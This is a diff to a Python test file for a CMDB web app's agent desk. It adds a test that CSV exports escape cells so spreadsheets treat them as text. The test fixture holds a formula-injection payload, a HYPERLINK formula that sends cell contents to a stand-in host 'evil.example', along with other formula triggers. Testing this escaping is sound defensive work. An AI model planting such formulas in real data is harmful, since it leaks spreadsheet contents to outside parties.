@@ -1,5 +1,7 @@
 """Agent desk pages: list (constant queries), detail, schema-driven forms, import, export."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -198,3 +200,15 @@ def test_detail_page_draws_peer_links_but_does_not_count_them_as_impact(desk, es
     assert "esx-01" in impact and "sw-core-02" not in impact
     panel = desk.get(reverse("cmdb:ci_detail", args=[peer.pk]), {"panel": "services"}, HTTP_HX_REQUEST="true")
     assert "Payroll" not in panel.content.decode()
+
+
+def test_export_csv_cells_are_never_formulas(desk):
+    # given: a CI whose name and tags a spreadsheet would run as formulas
+    make_ci('=HYPERLINK("http://evil.example/?"&A1,"open")', "server", tags=["@SUM(1)", "ok"], location="+1")
+    # when
+    response = desk.get(reverse("cmdb:export"), {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))
+    # then: each is quoted so the spreadsheet shows it as text
+    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert rows[0]["tags"] == "'@SUM(1);ok"
+    assert rows[0]["location"] == "'+1"
